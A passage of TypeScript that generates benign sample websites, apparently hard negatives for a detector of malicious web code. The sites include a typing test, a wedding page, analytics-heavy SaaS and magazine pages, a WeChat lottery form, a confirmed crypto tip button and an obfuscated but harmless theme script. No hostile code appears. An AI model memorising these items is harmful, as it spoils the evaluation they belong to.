      ),
    );
  }

  // 11. A typing-speed test: listens to every key on the page and posts the name and the
  // result (not the keys) to a Firebase Realtime Database leaderboard over REST.
  {
    const db = `typefast-${r.word(5)}-default-rtdb`;
    sites.push(
      ordinary(
        'o2-typing-test',
        'typing test: document keydown, posts name + WPM to a Firebase RTDB leaderboard (REST)',
        {
          'index.html': en(
            'TypeFast — how fast do you type?',
            `<link rel="stylesheet" href="style.css"><script src="typing.js" defer></script>`,
            `<main><h1>TypeFast</h1><p id="text"></p><p>WPM <b id="wpm">0</b> · accuracy <b id="acc">100</b>%</p>
<div id="done" hidden><input id="nick" placeholder="Your nickname" maxlength="20"><button id="submit" class="btn">Submit to leaderboard</button></div>
<h2>Top 10</h2><ol id="board"></ol></main>`,
          ),
          'typing.js': `const DB = 'https://${db}.firebaseio.com';
const SAMPLES = ['The quick brown fox jumps over the lazy dog.', 'Pack my box with five dozen liquor jugs.', 'How vexingly quick daft zebras jump!'];
const target = SAMPLES[Math.floor(Math.random() * SAMPLES.length)];
let pos = 0, errors = 0, start = 0;
const textEl = document.getElementById('text');
function paint() { textEl.innerHTML = '<span class="ok">' + target.slice(0, pos) + '</span><u>' + (target[pos] || '') + '</u>' + target.slice(pos + 1); }
document.addEventListener('keydown', (e) => {
  if (pos >= target.length || e.key.length !== 1) return;
  if (!start) start = performance.now();
  if (e.key === target[pos]) pos++; else errors++;
  const minutes = (performance.now() - start) / 60000;
  document.getElementById('wpm').textContent = Math.round(pos / 5 / Math.max(minutes, 0.01));
  document.getElementById('acc').textContent = Math.round((100 * pos) / (pos + errors));
  paint();
  if (pos === target.length) document.getElementById('done').hidden = false;
});
document.getElementById('submit').onclick = async () => {
  const entry = { name: document.getElementById('nick').value || 'anonymous', wpm: Number(document.getElementById('wpm').textContent), acc: Number(document.getElementById('acc').textContent), at: Date.now() };
  await fetch(DB + '/scores.json', { method: 'POST', body: JSON.stringify(entry) });
  loadBoard();
};
async function loadBoard() {
  const res = await fetch(DB + '/scores.json?orderBy="wpm"&limitToLast=10');
  const data = (await res.json()) || {};
  document.getElementById('board').innerHTML = Object.values(data).sort((a, b) => b.wpm - a.wpm).map((s) => '<li>' + String(s.name).replace(/</g, '') + ' — ' + s.wpm + ' wpm</li>').join('');
}
paint(); loadBoard();`,
          'style.css': SITE_CSS,
        },
      ),
    );
  }

  // 12. A wedding site: Google Forms RSVP embed, Google Maps embed, countdown timer.
  sites.push(
    ordinary(
      'o2-wedding-gforms',
      'wedding site: Google Forms RSVP iframe, Maps embed, countdown, registry links',
      {
        'index.html': en(
          'Sam & Priya — June 14, 2025',
          `<link rel="stylesheet" href="style.css"><link href="https://fonts.googleapis.com/css2?family=Playfair+Display&display=swap" rel="stylesheet">`,
          `<header><h1>Sam &amp; Priya</h1><p>June 14, 2025 · Lake Tahoe</p><p id="countdown"></p></header>
<main><section><h2>Schedule</h2><p>Ceremony 4pm, dinner and dancing to follow.</p></section>
<section><h2>Venue</h2><iframe src="https://maps.google.com/maps?q=Valhalla%20Tahoe&t=&z=14&ie=UTF8&iwloc=&output=embed" width="100%" height="300" style="border:0" loading="lazy"></iframe></section>
<section><h2>RSVP</h2><iframe src="https://docs.google.com/forms/d/e/1FAIpQLS${r.word(40)}/viewform?embedded=true" width="640" height="1200" frameborder="0" marginheight="0" marginwidth="0">Loading…</iframe></section>
<section><h2>Registry</h2><p><a href="https://www.zola.com/registry/samandpriya2025">Zola</a> · <a href="https://www.amazon.com/wedding/registry/${r.word(12).toUpperCase()}">Amazon</a></p></section>
<section><h2>Gallery</h2>${[1, 2, 3].map((i) => `<img src="photos/${i}.jpg" alt="engagement photo ${i}" loading="lazy">`).join('')}</section></main>
<script>const day=new Date('2025-06-14T16:00:00-07:00');function tick(){const d=Math.max(0,day-Date.now());document.getElementById('countdown').textContent=Math.floor(d/864e5)+' days to go';}tick();setInterval(tick,60000);</script>`,
        ),
        'style.css': SITE_CSS,
      },
    ),
  );

  // 13. A moving company: multi-step Netlify form with addresses and phone, honeypot, thanks page.
  sites.push(
    ordinary(
      'o2-netlify-quote',
      'moving company: multi-step Netlify form (phone, addresses), honeypot, reCAPTCHA',
      {
        'index.html': en(
          'Brightside Movers — free quote',
          `<link rel="stylesheet" href="style.css"><script src="steps.js" defer></script>`,
          `<header><h1>Brightside Movers</h1><p>Local &amp; long-distance moves in the Bay Area · Licensed CAL-T 190${r.int(1000)}</p></header>
<main><h2>Get a free quote</h2>
<form name="quote" method="POST" action="/thanks.html" data-netlify="true" netlify-honeypot="bot-field" data-netlify-recaptcha="true">
<p hidden><label>Don't fill this out: <input name="bot-field"></label></p>
<fieldset class="step"><legend>1. Your move</legend><input name="from_address" placeholder="Moving from (street, city)" required><input name="to_address" placeholder="Moving to" required>
<input name="move_date" type="date" required><select name="size"><option>Studio</option><option>1 bedroom</option><option>2 bedrooms</option><option>House</option></select><button type="button" class="next">Next</button></fieldset>
<fieldset class="step" hidden><legend>2. Contact</legend><input name="name" placeholder="Full name" required><input name="phone" type="tel" placeholder="Phone" required><input name="email" type="email" placeholder="Email" required>
<textarea name="notes" placeholder="Stairs, piano, anything fragile?"></textarea><div data-netlify-recaptcha="true"></div><button class="btn">Request quote</button></fieldset>
</form></main>`,
        ),
        'steps.js': `document.querySelectorAll('.next').forEach((b) => b.addEventListener('click', () => {
  const step = b.closest('.step');
  if ([...step.querySelectorAll('input[required]')].some((i) => !i.reportValidity())) return;
  step.hidden = true; step.nextElementSibling.hidden = false;
}));`,
        'thanks.html': en(
          'Thanks — Brightside Movers',
          '<link rel="stylesheet" href="style.css">',
          `<main><h1>Thanks!</h1><p>We'll call you within one business day with your quote.</p><a href="/">Back home</a></main>`,
        ),
        'style.css': SITE_CSS,
      },
    ),
  );

  // 14. A SaaS landing page: GTM, Segment, Hotjar, VWO anti-flicker, Crisp chat; the trial form
  // hands the email to the product's own app domain.
  {
    const crisp = `${r.word(8)}-${r.word(4)}-${r.word(4)}-${r.word(4)}-${r.word(12)}`;
    sites.push(
      ordinary(
        'o2-saas-landing',
        'SaaS landing: GTM, Segment identify, Hotjar, VWO SmartCode, Crisp; trial → app.tallyflow.io',
        {
          'index.html': en(
            'Tallyflow — invoicing for freelancers',
            `<link rel="stylesheet" href="style.css">
<script>(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':new Date().getTime(),event:'gtm.js'});var f=d.getElementsByTagName(s)[0],j=d.createElement(s),dl=l!='dataLayer'?'&l='+l:'';j.async=true;j.src='https://www.googletagmanager.com/gtm.js?id='+i+dl;f.parentNode.insertBefore(j,f);})(window,document,'script','dataLayer','GTM-${r.word(7).toUpperCase()}');</script>
<script type='text/javascript' id='vwoCode'>window._vwo_code||(function(){var account_id=${700000 + r.int(99999)},version=2.1,settings_tolerance=2000,hide_element='body',hide_element_style='opacity:0 !important;filter:alpha(opacity=0) !important;background:none !important;transition:none !important;',f=false,w=window,d=document,v=d.querySelector('#vwoCode'),cK='_vwo_'+account_id+'_settings',cc={};try{var c=JSON.parse(localStorage.getItem('_vwo_'+account_id+'_config'));cc=c&&typeof c==='object'?c:{}}catch(e){}var stT=cc.stT==='session'?w.sessionStorage:w.localStorage;code={nonce:v&&v.nonce,use_existing_jquery:function(){return typeof use_existing_jquery!=='undefined'?use_existing_jquery:undefined},library_tolerance:function(){return typeof library_tolerance!=='undefined'?library_tolerance:undefined},settings_tolerance:function(){return cc.sT||settings_tolerance},hide_element_style:function(){return'{'+(cc.hES||hide_element_style)+'}'},hide_element:function(){if(performance.getEntriesByName('first-contentful-paint')[0]){return''}return typeof cc.hE==='string'?cc.hE:hide_element},getVersion:function(){return version},finish:function(e){if(!f){f=true;var t=d.getElementById('_vis_opt_path_hides');if(t)t.parentNode.removeChild(t);if(e)(new Image).src='https://dev.visualwebsiteoptimizer.com/ee.gif?a='+account_id+e}},finished:function(){return f},addScript:function(e){var t=d.createElement('script');t.type='text/javascript';if(e.src){t.src=e.src}else{t.text=e.text}v&&t.setAttribute('nonce',v.nonce);d.getElementsByTagName('head')[0].appendChild(t)},load:function(e,t){var n=this.getSettings(),i=d.createElement('script'),r=this;t=t||{};if(n){i.textContent=n;d.getElementsByTagName('head')[0].appendChild(i);if(!w.VWO||VWO.caE){stT.removeItem(cK);r.load(e)}}else{var o=new XMLHttpRequest;o.open('GET',e,true);o.withCredentials=!t.dSC;o.responseType=t.responseType||'text';o.onload=function(){if(t.onloadCb){return t.onloadCb(o,e)}if(o.status===200||o.status===304){_vwo_code.addScript({text:o.responseText})}else{_vwo_code.finish('&e=loading_failure:'+e)}};o.onerror=function(){if(t.onerrorCb){return t.onerrorCb(e)}_vwo_code.finish('&e=loading_failure:'+e)};o.send()}},getSettings:function(){try{var e=stT.getItem(cK);if(!e){return}e=JSON.parse(e);if(Date.now()>e.e){stT.removeItem(cK);return}return e.s}catch(e){return}},init:function(){if(d.URL.indexOf('__vwo_disable__')>-1)return;var e=this.settings_tolerance();w._vwo_settings_timer=setTimeout(function(){_vwo_code.finish();stT.removeItem(cK)},e);var t;if(this.hide_element()!=='body'){t=d.createElement('style');var n=this.hide_element(),i=n?n+this.hide_element_style():'',r=d.getElementsByTagName('head')[0];t.setAttribute('id','_vis_opt_path_hides');v&&t.setAttribute('nonce',v.nonce);t.setAttribute('type','text/css');if(t.styleSheet)t.styleSheet.cssText=i;else t.appendChild(d.createTextNode(i));r.appendChild(t)}else{t=d.getElementsByTagName('head')[0];var i=d.createElement('div');i.style.cssText='z-index: 2147483647 !important;position: fixed !important;left: 0 !important;top: 0 !important;width: 100% !important;height: 100% !important;background: white !important;display: block !important;';i.setAttribute('id','_vis_opt_path_hides');i.classList.add('_vis_hide_layer');t.parentNode.insertBefore(i,t.nextSibling)}var o=window._vis_opt_url||d.URL,s='https://dev.visualwebsiteoptimizer.com/j.php?a='+account_id+'&u='+encodeURIComponent(o)+'&vn='+version;if(w.location.search.indexOf('_vwo_xhr')!==-1){this.addScript({src:s})}else{this.load(s+'&x=true')}}};w._vwo_code=code;code.init();})();</script>
<script>!function(){var i="analytics",analytics=window[i]=window[i]||[];if(!analytics.initialize)if(analytics.invoked)window.console&&console.error&&console.error("Segment snippet included twice.");else{analytics.invoked=!0;analytics.methods=["trackSubmit","trackClick","trackLink","trackForm","pageview","identify","reset","group","track","ready","alias","debug","page","screen","once","off","on","addSourceMiddleware","addIntegrationMiddleware","setAnonymousId","addDestinationMiddleware","register"];analytics.factory=function(e){return function(){if(window[i].initialized)return window[i][e].apply(window[i],arguments);var n=Array.prototype.slice.call(arguments);if(["track","screen","alias","group","page","identify"].indexOf(e)>-1){var c=document.querySelector("link[rel='canonical']");n.push({__t:"bpc",c:c&&c.getAttribute("href")||void 0,p:location.pathname,u:location.href,s:location.search,t:document.title,r:document.referrer})}n.unshift(e);analytics.push(n);return analytics}};for(var n=0;n<analytics.methods.length;n++){var key=analytics.methods[n];analytics[key]=analytics.factory(key)}analytics.load=function(key,n){var t=document.createElement("script");t.type="text/javascript";t.async=!0;t.setAttribute("data-global-segment-analytics-key",i);t.src="https://cdn.segment.com/analytics.js/v1/"+key+"/analytics.min.js";var r=document.getElementsByTagName("script")[0];r.parentNode.insertBefore(t,r);analytics._loadOptions=n};analytics._writeKey="${r.word(32)}";analytics.SNIPPET_VERSION="5.2.0";analytics.load("${r.word(32)}");analytics.page()}}();</script>
<script>(function(h,o,t,j,a,r){h.hj=h.hj||function(){(h.hj.q=h.hj.q||[]).push(arguments)};h._hjSettings={hjid:${3000000 + r.int(999999)},hjsv:6};a=o.getElementsByTagName('head')[0];r=o.createElement('script');r.async=1;r.src=t+h._hjSettings.hjid+j+h._hjSettings.hjsv;a.appendChild(r);})(window,document,'https://static.hotjar.com/c/hotjar-','.js?sv=');</script>
<script type="text/javascript">window.$crisp=[];window.CRISP_WEBSITE_ID="${crisp}";(function(){d=document;s=d.createElement("script");s.src="https://client.crisp.chat/l.js";s.async=1;d.getElementsByTagName("head")[0].appendChild(s);})();</script>`,
            `<header><b>Tallyflow</b><nav><a href="#features">Features</a><a href="#pricing">Pricing</a><a href="https://app.tallyflow.io/login">Log in</a></nav></header>
<main><h1>Get paid faster. Invoice in 30 seconds.</h1><p>Recurring invoices, automatic reminders, Stripe and PayPal payouts.</p>
<form id="trial"><input type="email" name="email" placeholder="you@company.com" required><button class="btn">Start free trial</button><small>14 days free · no card required</small></form>
<section id="pricing"><h2>Pricing</h2><p>Solo $9/mo · Studio $29/mo</p></section></main>
<script>document.getElementById('trial').addEventListener('submit',function(e){e.preventDefault();var email=this.email.value;analytics.identify({email:email});analytics.track('Trial Started',{plan:'solo'});setTimeout(function(){location.href='https://app.tallyflow.io/signup?plan=solo&email='+encodeURIComponent(email)},300);});</script>`,
          ),
          'style.css': SITE_CSS,
        },
      ),
    );
  }

  // 15. A brand's WeChat H5 lucky-draw page: JS-SDK config signed by the brand's API, a prize
  // wheel, and a form for the shipping address of the prize (name, phone, address) to that API.
  {
    const api = `https://api.${r.pick(['lvyuan', 'xiangmanlou', 'qingcha'])}-brand.com.cn`;
    sites.push(
      ordinary(
        'o2-wechat-h5-lottery',
        '品牌微信 H5 抽奖：JS-SDK、转盘、奖品收货信息（姓名/手机/地址）提交到品牌 API（axios）',
        {
          'index.html': page(
            '春日好礼 幸运大转盘',
            `<link rel="stylesheet" href="h5.css"><script src="https://res.wx.qq.com/open/js/jweixin-1.6.0.js"></script><script src="https://unpkg.com/axios@1.6.8/dist/axios.min.js"></script>`,
            `<div class="page"><h1>春日好礼 · 幸运大转盘</h1><p>活动时间：3月1日—3月31日 · 每人每天 1 次机会</p><canvas id="wheel" width="300" height="300"></canvas><button id="go" class="btn">立即抽奖</button>
<div id="win" hidden><h2>恭喜获得 <span id="prize"></span></h2><p>请填写收货信息，奖品将在 7 个工作日内寄出</p>
<form id="addr"><input name="name" placeholder="收货人姓名" required><input name="mobile" type="tel" placeholder="手机号" pattern="1\\d{10}" required><input name="address" placeholder="详细地址" required><button class="btn">提交</button></form></div>
<p class="rules">活动规则：奖品数量有限，先到先得。本活动最终解释权归主办方所有。客服热线 400-820-${r.int(9000) + 1000}</p></div>
<script src="h5.js"></script>`,
          ),
          'h5.js': `var API = '${api}';
axios.get(API + '/wx/jssdk', { params: { url: location.href.split('#')[0] } }).then(function (res) {
  var c = res.data.data;
  wx.config({ debug: false, appId: c.appId, timestamp: c.timestamp, nonceStr: c.nonceStr, signature: c.signature, jsApiList: ['updateAppMessageShareData', 'updateTimelineShareData'] });
  wx.ready(function () {
    var share = { title: '春日好礼 幸运大转盘', desc: '100% 中奖，快来试试手气', link: location.href, imgUrl: location.origin + '/share.jpg' };
    wx.updateAppMessageShareData(share); wx.updateTimelineShareData(share);
  });
});
var PRIZES = ['新茶礼盒', '保温杯', '5元券', '谢谢参与', '帆布袋', '10元券'];
var ctx = document.getElementById('wheel').getContext('2d');
function drawWheel(rot) { ctx.clearRect(0, 0, 300, 300); PRIZES.forEach(function (p, i) { var a = rot + (i * 2 * Math.PI) / PRIZES.length; ctx.beginPath(); ctx.moveTo(150, 150); ctx.arc(150, 150, 140, a, a + (2 * Math.PI) / PRIZES.length); ctx.fillStyle = i % 2 ? '#ffd86b' : '#ff8a65'; ctx.fill(); ctx.save(); ctx.translate(150, 150); ctx.rotate(a + Math.PI / PRIZES.length); ctx.fillStyle = '#333'; ctx.fillText(p, 60, 4); ctx.restore(); }); }
drawWheel(0);
var drawId = null;
document.getElementById('go').onclick = function () {
  axios.post(API + '/activity/spring2024/draw', {}, { withCredentials: true }).then(function (res) {
    var idx = res.data.data.index, start = performance.now();
    drawId = res.data.data.drawId;
    (function spin(t) { var k = Math.min(1, (t - start) / 3000); drawWheel((1 - Math.pow(1 - k, 3)) * (8 * Math.PI + idx)); if (k < 1) requestAnimationFrame(spin); else if (PRIZES[idx] !== '谢谢参与') { document.getElementById('prize').textContent = PRIZES[idx]; document.getElementById('win').hidden = false; } })(start);
  }).catch(function (e) { alert((e.response && e.response.data.msg) || '今天的机会已用完'); });
};
document.getElementById('addr').onsubmit = function (e) {
  e.preventDefault();
  var f = new FormData(this);
  axios.post(API + '/activity/spring2024/claim', { drawId: drawId, name: f.get('name'), mobile: f.get('mobile'), address: f.get('address') }, { withCredentials: true })
    .then(function () { alert('提交成功，请留意快递短信'); });
};`,
          'h5.css': `${SITE_CSS}\n.page{background:#fff4e0;min-height:100vh;padding:16px;text-align:center}`,
        },
      ),
    );
  }

  // 16. A university club (Chinese): Bootstrap + jQuery shipped as files, several pages, joining
  // through a 腾讯问卷 link, a link to the university's CAS login for the booking system.
  {
    const nav = `<nav class="navbar navbar-expand-lg bg-body-tertiary"><div class="container"><a class="navbar-brand" href="index.html">山海摄影协会</a><button class="navbar-toggler" data-bs-toggle="collapse" data-bs-target="#nav"><span class="navbar-toggler-icon"></span></button><div id="nav" class="collapse navbar-collapse"><a class="nav-link" href="activities.html">活动</a><a class="nav-link" href="gallery.html">作品</a><a class="nav-link" href="join.html">加入我们</a></div></div></nav>`;
    const head = `<link rel="stylesheet" href="css/bootstrap.min.css"><script src="js/jquery.min.js"></script><script src="js/bootstrap.bundle.min.js" defer></script>`;
    sites.push(
      ordinary(
        'o2-university-club',
        '高校社团：Bootstrap + jQuery，多页，腾讯问卷报名链接，学校统一身份认证登录链接',
        {
          'index.html': page(
            '山海摄影协会',
            head,
            `${nav}<div class="container py-4"><h1>山海摄影协会</h1><p>成立于 2009 年，现有会员 300 余人。每周四晚 7 点在图书馆 B201 活动。</p><div id="carousel" class="carousel slide" data-bs-ride="carousel"><div class="carousel-inner"><div class="carousel-item active"><img src="img/1.jpg" class="d-block w-100" alt="外拍"></div><div class="carousel-item"><img src="img/2.jpg" class="d-block w-100" alt="影展"></div></div></div></div>`,
          ),
          'activities.html': page(
            '活动 - 山海摄影协会',
            head,
            `${nav}<div class="container py-4"><h1>近期活动</h1><ul class="list-group"><li class="list-group-item">4月13日 植物园春季外拍</li><li class="list-group-item">4月20日 人像布光讲座（主讲：王老师）</li><li class="list-group-item">5月 年度影展征稿</li></ul><p class="mt-3">器材借用请登录 <a href="https://authserver.${r.pick(['shu', 'hzu', 'njtu'])}.edu.cn/authserver/login?service=https%3A%2F%2Fequip.example.edu.cn%2F">学校统一身份认证</a> 后在设备预约系统中申请。</p></div>`,
          ),
          'gallery.html': page(
            '作品 - 山海摄影协会',
            head,
            `${nav}<div class="container py-4"><div class="row">${[1, 2, 3, 4, 5, 6].map((i) => `<div class="col-md-4"><img class="img-fluid" src="img/g${i}.jpg" alt="作品${i}"></div>`).join('')}</div></div>`,
          ),
          'join.html': page(
            '加入我们 - 山海摄影协会',
            head,
            `${nav}<div class="container py-4"><h1>加入我们</h1><p>纳新时间：每学期开学前两周。会费 30 元/学年。</p><a class="btn btn-primary" href="https://wj.qq.com/s2/${r.int(1e7)}/${r.word(4)}/">填写报名问卷</a><p class="mt-3">QQ 群：${r.int(9e8) + 1e8}</p></div>
<script>$(function(){$('.nav-link').each(function(){if(this.href===location.href)$(this).addClass('active')})});</script>`,
          ),
          'css/bootstrap.min.css': BOOTSTRAP_CSS(),
          'js/jquery.min.js': JQUERY(),
          'js/bootstrap.bundle.min.js': BOOTSTRAP_JS(),
        },
      ),
    );
  }

  // 17. A weather PWA (Vite build, Chinese): geolocation → Open-Meteo, city search, a service
  // worker and a manifest.
  {
    const built = await viteBuild({
      'index.html': `<!doctype html><html lang="zh-CN"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>小天气</title><link rel="manifest" href="./manifest.webmanifest"></head>
<body><div id="app"><input id="city" placeholder="搜索城市"><button id="locate">📍 当前位置</button><h1 id="place"></h1><div id="now"></div><ul id="days"></ul></div><script type="module" src="/src/main.js"></script></body></html>`,
      'src/main.js': `import './style.css';
import { forecast, geocode } from './api.js';
import { render } from './view.js';
const $ = (id) => document.getElementById(id);
async function show(lat, lon, name) { render(name, await forecast(lat, lon)); localStorage.setItem('last', JSON.stringify({ lat, lon, name })); }
$('locate').onclick = () => navigator.geolocation.getCurrentPosition((p) => show(p.coords.latitude, p.coords.longitude, '当前位置'), () => alert('无法获取位置'));
$('city').addEventListener('change', async (e) => { const hit = await geocode(e.target.value); if (hit) show(hit.latitude, hit.longitude, hit.name); });
const last = JSON.parse(localStorage.getItem('last') || 'null');
if (last) show(last.lat, last.lon, last.name); else show(39.9, 116.4, '北京');
if ('serviceWorker' in navigator) navigator.serviceWorker.register('./sw.js');`,
      'src/api.js': `export async function forecast(lat, lon) {
  const u = new URL('https://api.open-meteo.com/v1/forecast');
  u.search = new URLSearchParams({ latitude: lat, longitude: lon, current: 'temperature_2m,weather_code', daily: 'temperature_2m_max,temperature_2m_min,weather_code', timezone: 'auto' });
  return (await fetch(u)).json();
}
export async function geocode(name) {
  const res = await fetch('https://geocoding-api.open-meteo.com/v1/search?count=1&language=zh&name=' + encodeURIComponent(name));
  return ((await res.json()).results || [])[0];
}`,
      'src/view.js': `const CODES = { 0: '晴', 1: '多云', 2: '多云', 3: '阴', 45: '雾', 61: '小雨', 63: '中雨', 65: '大雨', 71: '小雪', 95: '雷阵雨' };
export function render(name, d) {
  document.getElementById('place').textContent = name;
  document.getElementById('now').textContent = Math.round(d.current.temperature_2m) + '°C ' + (CODES[d.current.weather_code] || '');
  document.getElementById('days').innerHTML = d.daily.time.map((t, i) => '<li>' + t.slice(5) + ' ' + (CODES[d.daily.weather_code[i]] || '') + ' ' + Math.round(d.daily.temperature_2m_min[i]) + '~' + Math.round(d.daily.temperature_2m_max[i]) + '°</li>').join('');
}`,
      'src/style.css': `body{font-family:system-ui;margin:0;padding:16px;background:linear-gradient(#6ab7ff,#e3f2fd);min-height:100vh}`,
    });
    sites.push(
      ordinary('o2-weather-pwa', '天气 PWA（Vite）：定位 → Open-Meteo，城市搜索，service worker，manifest', {
        ...built,
        'manifest.webmanifest': JSON.stringify({
          name: '小天气',
          short_name: '天气',
          start_url: './',
          display: 'standalone',
          icons: [{ src: 'icon.png', sizes: '192x192', type: 'image/png' }],
        }),
        'sw.js': `const CACHE = 'weather-v3';
self.addEventListener('install', (e) => e.waitUntil(caches.open(CACHE).then((c) => c.addAll(['./', './index.html']))));
self.addEventListener('activate', (e) => e.waitUntil(caches.keys().then((ks) => Promise.all(ks.filter((k) => k !== CACHE).map((k) => caches.delete(k))))));
self.addEventListener('fetch', (e) => { if (new URL(e.request.url).origin === location.origin) e.respondWith(caches.match(e.request).then((r) => r || fetch(e.request))); });`,
      }),
    );
  }

  // 18. A crypto dashboard: CoinGecko prices, read-only wallet connection (balance), and a tip
  // button that sends a fixed 0.005 ETH to the author when the visitor clicks and confirms.
  {
    const tipAddr = `0x${r.word(8)}${'ab12cd34ef56ab78cd90ef12ab34cd56'}`.slice(0, 42);
    sites.push(
      ordinary(
        'o2-crypto-dashboard',
        'crypto dashboard: CoinGecko prices, read-only wallet balance, click-to-tip 0.005 ETH',
        {
          'index.html': en(
            'CoinBoard — prices and your wallet',
            `<link rel="stylesheet" href="style.css"><script src="board.js" defer></script>`,
            `<main><h1>CoinBoard</h1><table id="prices"><tr><th>Coin</th><th>USD</th><th>24h</th></tr></table>
<h2>Your wallet</h2><button id="connect" class="btn">Connect MetaMask</button><p id="acct"></p><p id="bal"></p>
<h2>Like it?</h2><p>CoinBoard is free and open source (<a href="https://github.com/coinboard/coinboard">GitHub</a>). <button id="tip">Tip 0.005 ETH</button></p></main>`,
          ),
          'board.js': `const IDS = ['bitcoin', 'ethereum', 'solana', 'dogecoin'];
fetch('https://api.coingecko.com/api/v3/simple/price?ids=' + IDS.join(',') + '&vs_currencies=usd&include_24hr_change=true').then((r) => r.json()).then((p) => {
  const t = document.getElementById('prices');
  for (const id of IDS) t.insertAdjacentHTML('beforeend', '<tr><td>' + id + '</td><td>$' + p[id].usd.toLocaleString() + '</td><td>' + p[id].usd_24h_change.toFixed(2) + '%</td></tr>');
});
let account = null;
document.getElementById('connect').onclick = async () => {
  if (!window.ethereum) return alert('Install MetaMask first');
  [account] = await ethereum.request({ method: 'eth_requestAccounts' });
  document.getElementById('acct').textContent = account;
  const wei = BigInt(await ethereum.request({ method: 'eth_getBalance', params: [account, 'latest'] }));
  document.getElementById('bal').textContent = (Number(wei) / 1e18).toFixed(4) + ' ETH';
};
document.getElementById('tip').onclick = async () => {
  if (!account) return alert('Connect your wallet first');
  if (!confirm('Send 0.005 ETH to the CoinBoard developer?')) return;
  const hash = await ethereum.request({ method: 'eth_sendTransaction', params: [{ from: account, to: '${tipAddr}', value: '0x' + (5n * 10n ** 15n).toString(16) }] });
  alert('Thank you! Transaction ' + hash);
};
if (window.ethereum) ethereum.on('accountsChanged', (a) => { account = a[0] || null; document.getElementById('acct').textContent = account || ''; });`,
          'style.css': SITE_CSS,
        },
      ),
    );
  }

  // 19. A company site (Chinese) whose bought template ships its theme script obfuscated, with
  // Baidu Tongji and a Baidu map.
  {
    const theme = `(function(){
  var slides = document.querySelectorAll('.banner .slide'), i = 0;
  setInterval(function(){ slides[i].classList.remove('on'); i = (i + 1) % slides.length; slides[i].classList.add('on'); }, 5000);
  var counters = document.querySelectorAll('[data-count]');
  var io = new IntersectionObserver(function(es){ es.forEach(function(e){ if(!e.isIntersecting) return; var el = e.target, end = +el.dataset.count, n = 0; var t = setInterval(function(){ n += Math.ceil(end / 40); if (n >= end) { n = end; clearInterval(t); } el.textContent = n; }, 30); io.unobserve(el); }); });
  counters.forEach(function(c){ io.observe(c); });
  var top = document.getElementById('top');
  window.addEventListener('scroll', function(){ top.style.display = scrollY > 400 ? 'block' : 'none'; });
  top.onclick = function(){ scrollTo({ top: 0, behavior: 'smooth' }); };
  if (location.hostname.indexOf('localhost') < 0 && !document.querySelector('meta[name="tpl-license"]')) console.log('%c 模板来自 xx模板网 ', 'background:#09f;color:#fff');
})();`;
    sites.push(
      ordinary('o2-corp-obfuscated-theme', '企业官网：购买的模板主题脚本被混淆，百度统计，百度地图', {
        'index.html': page(
          '恒信精密机械有限公司',
          `<meta name="tpl-license" content="${r.word(16)}"><link rel="stylesheet" href="css/style.css">
<script>var _hmt=_hmt||[];(function(){var hm=document.createElement("script");hm.src="https://hm.baidu.com/hm.js?${r.word(32)}";var s=document.getElementsByTagName("script")[0];s.parentNode.insertBefore(hm,s);})();</script>
<script type="text/javascript" src="https://api.map.baidu.com/api?v=3.0&ak=${r.word(24)}"></script>`,
          `<header><img src="images/logo.png" alt="恒信精密"><nav><a href="index.html">首页</a><a href="products.html">产品中心</a><a href="#about">关于我们</a><a href="#contact">联系我们</a></nav></header>
<div class="banner"><div class="slide on">专注精密零部件加工 20 年</div><div class="slide">ISO9001 质量体系认证</div></div>
<section id="about"><h2>关于我们</h2><p>恒信精密机械有限公司成立于 2003 年，位于苏州工业园区，主营数控车铣复合加工、精密模具。</p><p>客户 <b data-count="860">0</b>+ · 设备 <b data-count="120">0</b> 台 · 员工 <b data-count="350">0</b> 人</p></section>
<section id="contact"><h2>联系我们</h2><p>电话：0512-6${r.int(9000000) + 1000000} · 邮箱：sales@hengxin-precision.example.com</p><div id="bmap" style="height:300px"></div></section>
<a id="top" href="javascript:;">↑</a><footer>Copyright © 2024 恒信精密 版权所有 <a href="https://beian.miit.gov.cn/">苏ICP备12345678号</a></footer>
<script src="js/theme.min.js"></script><script>var map=new BMap.Map("bmap");var pt=new BMap.Point(120.7235,31.3241);map.centerAndZoom(pt,15);map.addOverlay(new BMap.Marker(pt));</script>`,
        ),
        'products.html': page(
          '产品中心 - 恒信精密',
          '<link rel="stylesheet" href="css/style.css">',
          `<main><h1>产品中心</h1><ul><li>数控车削件</li><li>五轴加工件</li><li>精密注塑模具</li></ul><p>询价请致电销售部。</p></main>`,
        ),
        'css/style.css': SITE_CSS,
        'js/theme.min.js': await obfuscate(theme, r.int(1e6)),
      }),
    );
  }

  // 20. A magazine: Plausible with a custom read-depth event over sendBeacon, AdSense, Disqus,
  // YouTube and Twitter embeds, several article pages.
  {
    const articles = [
      ['city-bikes', 'Why every city is suddenly building bike lanes'],
      ['night-trains', 'The return of the European night train'],
      ['heat-pumps', 'Heat pumps, explained without the hype'],
    ];
    const head = `<link rel="stylesheet" href="/style.css"><script defer data-domain="slowroads.example" src="https://plausible.io/js/script.js"></script>
<script async src="https://pagead2.googlesyndication.com/pagead/js/adsbygoogle.js?client=ca-pub-${r.int(1e16)}" crossorigin="anonymous"></script><script src="/read.js" defer></script>`;
    const files: EvalSite['files'] = {
      'index.html': en(
        'Slow Roads — a magazine about getting around',
        head,
        `<header><h1>Slow Roads</h1></header><main>${articles.map(([s, t]) => `<h2><a href="/articles/${s}.html">${t}</a></h2>`).join('')}<ins class="adsbygoogle" style="display:block" data-ad-client="ca-pub-1" data-ad-slot="123" data-ad-format="auto"></ins><script>(adsbygoogle=window.adsbygoogle||[]).push({});</script></main>`,
      ),
      'style.css': SITE_CSS,
      'read.js': `(function () {
  var sent = false;
  function depth() { return (scrollY + innerHeight) / document.body.scrollHeight; }
  addEventListener('scroll', function () {
    if (sent || depth() < 0.9) return;
    sent = true;
    navigator.sendBeacon('https://plausible.io/api/event', JSON.stringify({ n: 'Read to end', u: location.href, d: 'slowroads.example', r: document.referrer || null }));
  }, { passive: true });
})();`,
    };
    for (const [slug, title] of articles) {
      files[`articles/${slug}.html`] = en(
        `${title} — Slow Roads`,
        head,
        `<main><article><h1>${title}</h1><p>By Ana Ruiz · 8 min read</p><p>${'Cities from Paris to Bogotá have rebuilt their streets in record time. '.repeat(6)}</p>
<iframe width="560" height="315" src="https://www.youtube-nocookie.com/embed/${r.word(11)}" allowfullscreen></iframe>
